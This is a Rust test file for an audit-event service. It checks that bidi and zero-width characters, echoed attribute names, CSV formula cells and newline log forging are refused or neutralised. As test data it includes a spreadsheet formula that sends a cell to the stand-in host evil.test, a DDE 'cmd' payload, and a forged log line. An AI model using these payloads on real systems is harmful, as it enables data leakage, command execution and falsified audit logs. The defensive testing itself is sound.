//! See `main.rs`. Bad input: characters that hide or forge text, names that would be echoed,
//! cells a spreadsheet would run, values that would forge log lines — through the real intake,
//! the real broker and the replay. The fuzzing of every parser is in `input/fuzz.rs`.

mod fuzz;

use crate::common::app::{spawn_app, TEST_API_KEY};
use crate::common::Buf;
use authtrail::config::Config;
use authtrail::replay::export::{self, Filter, Format, ReplayArgs};
use chrono::{Duration as TimeDelta, Utc};
use serde_json::{json, Value};
use std::sync::OnceLock;
use uuid::Uuid;

/// A valid `login.succeeded` from now, for the intake.
fn login() -> Value {
    let now = Utc::now();
    json!({
        "specversion": "1.0",
        "id": Uuid::new_v4().to_string(),
        "source": "/services/auth-api",
        "type": "login.succeeded",
        "time": now.to_rfc3339(),
        "subject": "u-input",
        "datacontenttype": "application/json",
        "schemaversion": 1,
        "data": {
            "session_id": "s-input",
            "login_method": "password",
            "expires_at": (now + TimeDelta::hours(1)).to_rfc3339(),
            "identifier": "someone@example.com",
            "device_name": "Laptop",
            "user_agent": "Mozilla/5.0",
        }
    })
}

async fn post(
    app: &crate::common::app::TestApp,
    content_type: &str,
    body: Vec<u8>,
) -> (u16, Value, String) {
    let r = app
        .client()
        .post(app.events_url())
        .header("X-API-Key", TEST_API_KEY)
        .header("Content-Type", content_type)
        .body(body)
        .send()
        .await
        .unwrap();
    let status = r.status().as_u16();
    let text = r.text().await.unwrap();
    (
        status,
        serde_json::from_str(&text).unwrap_or(Value::Null),
        text,
    )
}

/// "Trojan source" in an audit record: a user id that reads `admin` but is not, a note whose
/// bidi override reorders what an analyst sees. Every string value and member name refusing a
/// format character, named by code point, and nothing of the batch appended.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bidi_overrides_and_zero_width_characters_are_refused_naming_the_code_point() {
    let app = spawn_app().await;
    let edit = |f: &dyn Fn(&mut Value)| {
        let mut v = login();
        f(&mut v);
        v
    };
    let cases: Vec<(Value, &str, &str)> = vec![
        (
            edit(&|v| v["subject"] = json!("nimda\u{202e}")),
            "subject",
            "U+202E",
        ),
        (
            edit(&|v| v["data"]["identifier"] = json!("ad\u{200b}min@example.com")),
            "data.identifier",
            "U+200B",
        ),
        (
            edit(&|v| v["data"]["device_name"] = json!("\u{2066}Laptop\u{2069}")),
            "data.device_name",
            "U+2066",
        ),
        (
            edit(&|v| v["data"]["user_agent"] = json!("Mozilla\u{ad}/5.0")),
            "data.user_agent",
            "U+00AD",
        ),
        (
            edit(&|v| v["source"] = json!("/services/auth-api\u{feff}")),
            "source",
            "U+FEFF",
        ),
        (
            edit(&|v| {
                let d = v["data"].as_object_mut().unwrap();
                let name = d.remove("device_name").unwrap();
                d.insert("device_name\u{200d}".into(), name);
            }),
            "data.device_name\\u{200d}",
            "U+200D",
        ),
    ];
    let body: Vec<u8> = cases
        .iter()
        .flat_map(|(v, _, _)| [serde_json::to_vec(v).unwrap(), b"\n".to_vec()].concat())
        .collect();
    let (status, problem, text) = post(&app, "application/x-ndjson", body).await;
    assert_eq!(status, 400, "{text}");
    let errors = problem["errors"].as_array().expect("errors listed");
    assert_eq!(errors.len(), cases.len(), "{text}");
    for (i, (_, field, code)) in cases.iter().enumerate() {
        let e = &errors[i];
        assert_eq!(e["index"], i, "{e}");
        assert_eq!(e["field"], *field, "{e}");
        let reason = e["reason"].as_str().unwrap();
        assert!(
            reason.contains(&format!("format character {code}")),
            "event {i}: {reason}"
        );
    }
    assert!(
        !text.contains(['\u{202e}', '\u{200d}', '\u{2066}']),
        "the answer carries what it refused: {text}"
    );
    assert_eq!(
        app.topic.end_offsets().await,
        vec![0, 0, 0],
        "nothing appended"
    );
}

/// An unknown top-level member is reported without echoing its name unless that name could be
/// an attribute: 3000 characters ending in a bidi override stay out of the answer (and of the
/// logs it is copied to); a plausible `priority` is still named.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_unknown_attribute_name_is_not_echoed_unless_it_could_be_one() {
    let app = spawn_app().await;
    let hostile = format!("{}\u{202e}", "x".repeat(3000));
    let mut v = login();
    v[hostile.as_str()] = json!("1");
    let (status, problem, text) = post(
        &app,
        "application/cloudevents+json",
        serde_json::to_vec(&v).unwrap(),
    )
    .await;
    assert_eq!(status, 400, "{text}");
    let e = &problem["errors"][0];
    assert_eq!(e["field"], "(attribute)", "{e}");
    assert!(
        e["reason"]
            .as_str()
            .unwrap()
            .contains("not a valid attribute name"),
        "{e}"
    );
    assert!(
        !text.contains(&"x".repeat(64)),
        "the name is echoed: {text:.300}"
    );
    assert!(!text.contains('\u{202e}'), "the bidi override is echoed");

    let mut v = login();
    v["priority"] = json!("high");
    let (status, problem, _) = post(
        &app,
        "application/cloudevents+json",
        serde_json::to_vec(&v).unwrap(),
    )
    .await;
    assert_eq!(status, 400);
    assert_eq!(problem["errors"][0]["field"], "priority");
}

impl<'a> tracing_subscriber::fmt::MakeWriter<'a> for Buf {
    type Writer = Buf;
    fn make_writer(&'a self) -> Buf {
        self.clone()
    }
}

/// CSV injection: a user id, identifier, device id or user agent an attacker chose becomes a
/// formula when an analyst opens the export in a spreadsheet (`=HYPERLINK(...)` leaking the
/// row, `=cmd|...` on old Excel). Every such cell starts with `'`; the values are otherwise
/// unchanged.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_formula_in_a_published_value_is_neutralised_in_the_csv_export() {
    let topic = crate::common::TestTopic::new(1).await;
    let t = Utc::now() - TimeDelta::minutes(5);
    let formula = "=HYPERLINK(\"https://evil.test/?\"&A1,\"details\")";
    let events = vec![
        crate::common::event(
            1,
            "login.failed",
            t,
            formula,
            json!({
                "identifier": "@SUM(1+1)",
                "failure_reason": "bad_password",
                "device_id": "-2+3",
                "user_agent": "+cmd|' /C calc'!A0",
            }),
        ),
        crate::common::event(
            2,
            "session.logged_out",
            t + TimeDelta::seconds(1),
            "u-plain",
            json!({"session_id": "=1+1"}),
        ),
    ];
    topic.publisher().publish_all(&events).await.unwrap();

    let config = Config {
        kafka: topic.config.clone(),
        ..Config::default()
    };
    let args = ReplayArgs {
        from: None,
        to: None,
        after: None,
        before: None,
        user: vec![],
        identifier: vec![],
        event_type: vec![],
        ip: vec![],
        country: vec![],
        format: Format::Csv,
        output: None,
        follow: false,
        no_progress: true,
        reorder_window: 100,
    };
    let buf = Buf::default();
    let filter = Filter::from_args(&args).unwrap();
    let summary = export::replay(&config, &args, &filter, Box::new(buf.clone()), false)
        .await
        .unwrap();
    assert_eq!(summary.written, 2);
    let out = buf.0.lock().unwrap().clone();
    let mut reader = csv::Reader::from_reader(out.as_slice());
    let header: Vec<String> = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_owned)
        .collect();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let col = |row: &csv::StringRecord, name: &str| {
        row[header.iter().position(|h| h == name).unwrap()].to_owned()
    };
    assert_eq!(col(&rows[0], "subject"), format!("'{formula}"));
    assert_eq!(col(&rows[0], "identifier"), "'@SUM(1+1)");
    assert_eq!(col(&rows[0], "device_id"), "'-2+3");
    assert_eq!(col(&rows[0], "user_agent"), "'+cmd|' /C calc'!A0");
    assert_eq!(col(&rows[1], "session_id"), "'=1+1");
    assert_eq!(col(&rows[1], "subject"), "u-plain");
    for row in &rows {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell a spreadsheet would run: {cell:?}"
            );
        }
    }
}

/// Everything the process logs (text format, as `serve` writes by default), from the first
/// call on: one subscriber for the whole test binary, installed once.
fn captured_logs() -> &'static Buf {
    static LOGS: OnceLock<Buf> = OnceLock::new();
    LOGS.get_or_init(|| {
        let buf = Buf::default();
        let _ = tracing_subscriber::fmt()
            .with_writer(buf.clone())
            .with_ansi(false)
            .with_max_level(tracing::Level::INFO)
            .try_init();
        buf
    })
}

/// Log forging: a caller's subject (a JWT `sub`, chosen by whoever holds a signing key or a
/// compromised IdP account) with a CR/LF and a fake log line after it. The line is logged
/// escaped, so nothing in the log starts with the forgery.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_newline_in_a_caller_subject_cannot_forge_a_log_line() {
    let logs = captured_logs();
    let app = spawn_app().await;
    let forged = "2030-01-01T00:00:00.000000Z  INFO authtrail: forged-by-input-test granted admin";
    let token = app.jwt(json!({
        "sub": format!("svc-input\r\n{forged}"),
        "role": "service",
        "scope": "authtrail:publish",
    }));
    let r = app
        .client()
        .post(app.events_url())
        .bearer_auth(token)
        .header("Content-Type", "application/cloudevents+json")
        .body(serde_json::to_vec(&login()).unwrap())
        .send()
        .await
        .unwrap();
    assert!(r.status().as_u16() < 500, "{}", r.status());
    let text = String::from_utf8_lossy(&logs.0.lock().unwrap()).into_owned();
    assert!(
        text.contains("forged-by-input-test"),
        "the caller's subject was not logged at all"
    );
    for line in text.lines() {
        assert!(
            !line.trim_start().starts_with("2030-01-01T00:00:00.000000Z"),
            "a forged log line: {line:?}"
        );
    }
}
